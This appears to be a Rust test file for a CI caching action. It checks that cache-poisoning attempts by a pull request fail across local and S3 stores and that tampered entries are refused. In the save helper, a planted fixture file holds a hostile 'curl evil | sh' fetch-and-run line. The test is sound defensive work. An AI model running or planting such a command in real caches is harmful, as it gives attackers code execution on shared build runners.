//! Cache poisoning attempts against the stores the action owns, `local` and `s3`, through the
//! action's steps as jobs of a shared self-hosted runner or fleet would run them.
//!
//! A pull request saves a uv cache holding a planted file, under the key every job of the
//! repository computes (keys hash public files). No push job of the base branch, no other
//! repository and no sibling pull request may restore it; the pull request itself restores
//! its own and reads the base branch's; a run on the base branch for a pull request
//! (`pull_request_target`) saves nothing. A byte flipped in a stored entry is refused, named
//! in a warning, and never used again.

use std::fs;
use std::path::PathBuf;

use crate::s3::{ObjectStore, fill, read_tree, warnings};
use crate::support::action::{Job, Machine};
use crate::support::local_store;

const REPOSITORY: &str = "owner/project";

/// Where the jobs keep their entries: one directory shared by every job of a self-hosted
/// runner, or one bucket shared by a fleet.
enum Store {
    Local(tempfile::TempDir),
    S3(ObjectStore),
}

impl Store {
    fn local() -> Store {
        Store::Local(tempfile::tempdir().unwrap())
    }

    fn s3() -> Store {
        Store::S3(ObjectStore::start())
    }

    /// The stored entries: files of the local store (not in quarantine), objects of the bucket.
    fn entries(&self) -> Vec<PathBuf> {
        match self {
            Store::Local(dir) => {
                let mut out = Vec::new();
                let mut stack = vec![dir.path().to_path_buf()];
                while let Some(dir) = stack.pop() {
                    for entry in fs::read_dir(&dir).into_iter().flatten().flatten() {
                        let path = entry.path();
                        if path.is_dir() && entry.file_name() != "quarantine" {
                            stack.push(path);
                        } else if path.is_file() && !entry.file_name().to_string_lossy().starts_with('.') {
                            out.push(path);
                        }
                    }
                }
                out.sort();
                out
            }
            Store::S3(store) => store.entries().iter().map(|name| store.object_path(name)).collect(),
        }
    }
}

/// A job of `repository` on `git_ref` for `event`, caching the uv cache of a fresh machine.
struct Run {
    machine: Machine,
    job: Job,
}

fn run(store: &Store, repository: &str, event: &str, git_ref: &str, base: Option<&str>) -> Run {
    let machine = Machine::new();
    let mut job = machine.job();
    job.input("targets", "uv").input("uv-cache-dir", "~/.cache/uv");
    match store {
        Store::Local(dir) => {
            job.input("local-dir", &dir.path().display().to_string());
        }
        Store::S3(store) => store.configure(&mut job),
    }
    let payload = machine.root.path().join("event.json");
    fs::write(
        &payload,
        format!(r#"{{"repository":{{"full_name":"{repository}","default_branch":"main"}}}}"#),
    )
    .unwrap();
    job.set_env("GITHUB_REPOSITORY", repository)
        .set_env("GITHUB_EVENT_NAME", event)
        .set_env("GITHUB_REF", git_ref)
        .set_env("GITHUB_EVENT_PATH", &payload.display().to_string());
    if let Some(base) = base {
        job.set_env("GITHUB_BASE_REF", base);
    }
    Run { machine, job }
}

impl Run {
    fn uv(&self) -> PathBuf {
        self.machine.home.join(".cache/uv")
    }

    /// Restores, fills the uv cache with `seed`'s files, plus a planted file when asked, and
    /// saves; returns what was saved.
    fn save(&mut self, seed: u64, planted: bool) -> std::collections::BTreeMap<String, Vec<u8>> {
        let main = self.job.main();
        assert_eq!(main.code, 0, "{}", main.log());
        let mut files = fill(&self.uv(), seed);
        if planted {
            fs::write(self.uv().join("wheels/planted.bin"), b"import os; os.system('curl evil | sh')")
                .unwrap();
            files = read_tree(&self.uv());
        }
        let post = self.job.post();
        assert_eq!(post.code, 0, "{}", post.log());
        assert!(post.stdout.contains("uv: saved"), "{}", post.log());
        assert!(warnings(&post).is_empty(), "{}", post.log());
        files
    }

    /// The restore step; what it put in the uv cache, `None` when it restored nothing.
    fn restore(
        &mut self,
    ) -> (crate::support::action::Step, Option<std::collections::BTreeMap<String, Vec<u8>>>) {
        let main = self.job.main();
        assert_eq!(main.code, 0, "{}", main.log());
        let restored = (main.output("uv-restored") == "true").then(|| read_tree(&self.uv()));
        (main, restored)
    }
}

fn pull_request(store: &Store, number: u32) -> Run {
    run(store, REPOSITORY, "pull_request", &format!("refs/pull/{number}/merge"), Some("main"))
}

fn push_to_main(store: &Store, repository: &str) -> Run {
    run(store, repository, "push", "refs/heads/main", None)
}

fn poisoning_attempts_fail(store: &Store) {
    // A pull request plants a file in the entry every job of the repository would look up.
    let planted = pull_request(store, 7).save(1, true);
    assert!(planted.contains_key("wheels/planted.bin"));

    let (step, restored) = push_to_main(store, REPOSITORY).restore();
    assert_eq!(restored, None, "the base branch restored a pull request's entry:\n{}", step.log());
    assert_eq!(step.output("uv-cache-hit"), "false");
    let (step, restored) = push_to_main(store, "someone/else").restore();
    assert_eq!(restored, None, "another repository restored the entry:\n{}", step.log());

    // The default branch saves its own; a sibling pull request reads it, not pull request 7's.
    let from_main = push_to_main(store, REPOSITORY).save(2, false);
    let (step, restored) = pull_request(store, 8).restore();
    assert_eq!(restored.as_ref(), Some(&from_main), "{}", step.log());
    let (step, restored) =
        run(store, "someone/else", "pull_request", "refs/pull/7/merge", Some("main")).restore();
    assert_eq!(restored, None, "another repository's pull request 7 restored it:\n{}", step.log());

    // Pull request 7 restores its own entry first.
    let (step, restored) = pull_request(store, 7).restore();
    assert_eq!(restored.as_ref(), Some(&planted), "{}", step.log());
    assert_eq!(step.output("uv-cache-hit"), "true");

    // A run on the base branch for a pull request restores the branch's entry, saves nothing.
    let before = store.entries();
    let mut target = run(store, REPOSITORY, "pull_request_target", "refs/heads/main", Some("main"));
    // `save: auto` already skips this event; the store refuses even when told to save.
    target.job.input("key-suffix", "target").input("save", "always");
    let main = target.job.main();
    assert_eq!(main.code, 0, "{}", main.log());
    fill(&target.uv(), 3);
    let post = target.job.post();
    assert_eq!(post.code, 0, "{}", post.log());
    assert!(!post.stdout.contains("uv: saved"), "{}", post.log());
    assert!(post.stdout.contains("`pull_request_target` run is not saved"), "{}", post.log());
    assert!(warnings(&post).is_empty(), "a notice, not a warning:\n{}", post.log());
    assert_eq!(store.entries(), before, "nothing was stored");
}

fn a_flipped_byte_is_refused(store: &Store) {
    let saved = push_to_main(store, REPOSITORY).save(4, false);
    let entries = store.entries();
    assert_eq!(entries.len(), 1, "{entries:?}");
    let (step, restored) = push_to_main(store, REPOSITORY).restore();
    assert_eq!(restored, Some(saved), "{}", step.log());

    let mut bytes = fs::read(&entries[0]).unwrap();
    let middle = bytes.len() / 2;
    bytes[middle] ^= 0x20;
    fs::write(&entries[0], bytes).unwrap();
    let mut job = push_to_main(store, REPOSITORY);
    let (step, restored) = job.restore();
    assert_eq!(restored, None, "{}", step.log());
    assert!(!job.uv().join("wheels").exists(), "nothing of it was put in place:\n{}", step.log());
    let warned = warnings(&step).join("\n");
    assert!(warned.contains("does not match the sha256 recorded when it was saved"), "{}", step.log());
    // Named with its repository and ref (local), or its object (s3).
    assert!(warned.contains("owner/project") && warned.contains("refs/heads/main"), "{}", step.log());
    assert!(store.entries().is_empty(), "the entry was taken out of use: {:?}", store.entries());
    if let Store::Local(dir) = store {
        let quarantine = dir.path().join("v2/quarantine");
        assert_eq!(
            fs::read_dir(&quarantine).unwrap().count(),
            1,
            "kept for a look in {}",
            quarantine.display()
        );
    }

    let (step, restored) = push_to_main(store, REPOSITORY).restore();
    assert_eq!(restored, None, "{}", step.log());
    assert!(warnings(&step).is_empty(), "a plain miss now:\n{}", step.log());
}

/// The local store's entries live under the repository and the ref that saved them.
#[test]
fn local_entries_are_scoped_by_repository_and_ref() {
    let store = Store::local();
    poisoning_attempts_fail(&store);
    let Store::Local(dir) = &store else { unreachable!() };
    let scopes: Vec<String> = fs::read_dir(dir.path().join("v2/owner%2Fproject"))
        .unwrap()
        .map(|e| e.unwrap().file_name().to_string_lossy().into_owned())
        .collect();
    let mut scopes = scopes;
    scopes.sort();
    assert_eq!(scopes, ["refs%2Fheads%2Fmain", "refs%2Fpull%2F7%2Fmerge"]);
}

#[test]
fn s3_entries_are_scoped_by_repository_and_ref() {
    poisoning_attempts_fail(&Store::s3());
}

#[test]
fn a_tampered_local_entry_is_refused_and_quarantined() {
    a_flipped_byte_is_refused(&Store::local());
}

#[test]
fn a_tampered_s3_entry_is_refused_and_deleted() {
    a_flipped_byte_is_refused(&Store::s3());
}

/// Entries of the unscoped layout that earlier versions wrote are not read.
#[test]
fn unscoped_local_entries_are_ignored() {
    let store = Store::local();
    push_to_main(&store, REPOSITORY).save(5, false);
    let Store::Local(dir) = &store else { unreachable!() };
    // The same archive as 0.1.0 stored it: `v1/<version>/<sha256 of the key>`, a header
    // without the archive's sha256.
    let [(path, key, archive)] = &local_store::entries(dir.path())[..] else { panic!("one entry") };
    let old = dir.path().join("v1").join(path.parent().unwrap().file_name().unwrap());
    fs::create_dir_all(&old).unwrap();
    let mut bytes = format!("uv-nox-cache-entry {key}\n").into_bytes();
    bytes.extend_from_slice(archive);
    fs::write(old.join(path.file_name().unwrap()), bytes).unwrap();
    fs::remove_dir_all(dir.path().join("v2")).unwrap();

    let (step, restored) = push_to_main(&store, REPOSITORY).restore();
    assert_eq!(restored, None, "{}", step.log());
}
